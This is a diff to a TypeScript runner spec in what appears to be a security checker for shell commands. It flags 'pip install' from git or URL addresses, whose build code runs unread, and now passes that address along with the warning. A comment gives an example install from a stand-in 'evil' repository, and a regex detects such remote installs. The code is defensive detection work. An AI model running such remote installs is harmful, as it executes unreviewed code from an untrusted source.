@@ -261,7 +261,7 @@ const pip: RunnerSpec = {
     const named = [...values(p, '-e', '--editable'), ...ops.slice(1)];
     // `pip install git+https://github.com/evil/x` (round 8): a package from an address, whose build code (setup.py, its backend's hooks) runs unread.
     const address = sub === 'install' ? named.find((t) => /^(git|hg|svn|bzr)\+|^https?:\/\/|^[\w.-]+\s*@\s*(git\+|https?:\/\/)/i.test(t)) : undefined;
-    if (address !== undefined) c.w.addOpaque(`pip installs ${address.slice(0, 120)}, a package from an address rather than the index, whose build code runs before it can be read`, c.w.viaOf(c.exec));
+    if (address !== undefined) c.w.addOpaque(`pip installs ${address.slice(0, 120)}, a package from an address rather than the index, whose build code runs before it can be read`, c.w.viaOf(c.exec), undefined, address);
     const local = named.filter((t) => t === '.' || t === '..' || t.startsWith('./') || t.startsWith('../') || t.startsWith('/'));
     return local.map((t): Entry => ({ files: [`${resolvePath(c.exec.cwd, t, c.w.facts.home)}/setup.py`], as: 'python' }));
   },
